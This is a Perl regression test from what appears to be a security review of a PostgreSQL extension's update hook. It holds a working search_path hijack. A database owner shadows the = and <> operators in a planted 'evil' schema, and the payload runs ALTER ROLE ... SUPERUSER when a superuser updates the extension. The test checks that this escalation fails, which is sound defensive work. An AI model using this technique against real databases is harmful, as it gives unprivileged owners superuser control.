# Review of issue 21's trust boundary (h7): after ALTER EXTENSION uso_tasks
# UPDATE the library's utility hook looks for the USO pack of 0.1 with SPI
# (src/office_adopt.c), in the superuser's session, under that session's
# search_path.  The owner of the database sets the database's default
# search_path (ALTER DATABASE ... SET search_path needs no superuser) to put
# a schema of hers before pg_catalog, with an operator = (oid, oid) in it:
# the hook's "d.classid = 'pg_catalog.pg_namespace'::pg_catalog.regclass"
# then runs her operator as the superuser, and she makes herself one.  Any
# ALTER EXTENSION uso_tasks UPDATE does it, also one that finds nothing to
# update -- the step docs/upgrading tells the DBA to run in every database.
use strict;
use warnings;
use lib 't/lib';
use PostgreSQL::Test::Cluster;
use PostgreSQL::Test::Utils;
use Test::More;
use UsoNode;

my $node = uso_node('review_update_hook');
$node->safe_psql('postgres', q{CREATE ROLE dbowner LOGIN});
$node->safe_psql('postgres', q{CREATE DATABASE owned OWNER dbowner});
$node->safe_psql('owned', 'CREATE EXTENSION uso_tasks');
$node->safe_psql('owned', q{
CREATE SCHEMA evil; GRANT USAGE ON SCHEMA evil TO PUBLIC;
CREATE FUNCTION evil.hit(s text) RETURNS void LANGUAGE plpgsql SET search_path = pg_catalog AS $$
BEGIN
	IF current_user <> 'dbowner' THEN
		RAISE LOG 'review planted code ran: % as %', s, current_user;
		IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN
			EXECUTE 'ALTER ROLE dbowner SUPERUSER';
		END IF;
	END IF;
END $$;
DO $d$
DECLARE t text; op text; i int := 0;
BEGIN
	FOREACH t IN ARRAY ARRAY['text', 'bigint', 'integer', 'name', 'oid', '"char"', 'boolean'] LOOP
		FOREACH op IN ARRAY ARRAY['=', '<>'] LOOP
			i := i + 1;
			EXECUTE format('CREATE FUNCTION evil.op%s(a %s, b %s) RETURNS boolean LANGUAGE plpgsql
				SET search_path = pg_catalog AS $f$ BEGIN PERFORM evil.hit(%L); RETURN a %s b; END $f$',
				i, t, t, op || ' ' || t, op);
			EXECUTE format('CREATE OPERATOR evil.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = evil.op%s)',
				op, t, t, i);
		END LOOP;
	END LOOP;
END $d$;
ALTER DATABASE owned SET search_path = evil, pg_catalog, public}, extra_params => ['-U', 'dbowner']);

# The DBA updates the extension, in a new session of that database.
my ($ret, $out, $err) = $node->psql('owned', 'ALTER EXTENSION uso_tasks UPDATE');
is($ret, 0, 'ALTER EXTENSION uso_tasks UPDATE runs') or diag($err);
is($node->safe_psql('postgres', q{SELECT rolsuper FROM pg_roles WHERE rolname = 'dbowner'}), 'f',
	'the database owner did not become superuser');
unlike(slurp_file($node->logfile), qr/review planted code ran: [^%]/,
	'none of her operators ran as the superuser');
$node->stop;
done_testing();
